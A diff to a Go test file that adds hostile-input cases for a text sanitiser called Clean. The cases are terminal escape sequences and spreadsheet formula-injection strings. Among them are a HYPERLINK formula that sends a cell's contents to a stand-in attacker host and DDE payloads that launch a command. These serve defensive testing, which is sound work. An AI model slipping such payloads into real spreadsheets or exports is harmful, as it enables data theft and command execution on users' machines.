@@ -68,6 +68,20 @@ func TestCleanHostile(t *testing.T) {
 		"reset terminal":    "Reset",
 		"conceal":           "Secret",
 		"alt screen":        "Alt",
+		"scroll region":     "PatScroll",
+		"window ops":        "Window",
+		"ss2 ss3":           "SingleShift",
+		"raw c1 controls":   "Raw\uFFFD\uFFFD\uFFFD\uFFFD\uFFFDC1",
+		"nul and del":       "Nul Del",
+		"soft hyphen":       "Soft",
+		"bidi embeddings":   "LTR RTL",
+		"formula equals":    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
+		"formula plus":      "+1+cmd|' /C calc'!A0",
+		"formula minus":     "-2+3+cmd|' /C calc'!A0",
+		"formula at":        "@SUM(1+9)*cmd|' /C calc'!A0",
+		"formula tab":       " =1+1",
+		"formula cr":        " =1+1",
+		"formula fullwidth": "\uff1d1+1",
 	}
 	for name, in := range hostile.Strings {
 		got := Clean(in)
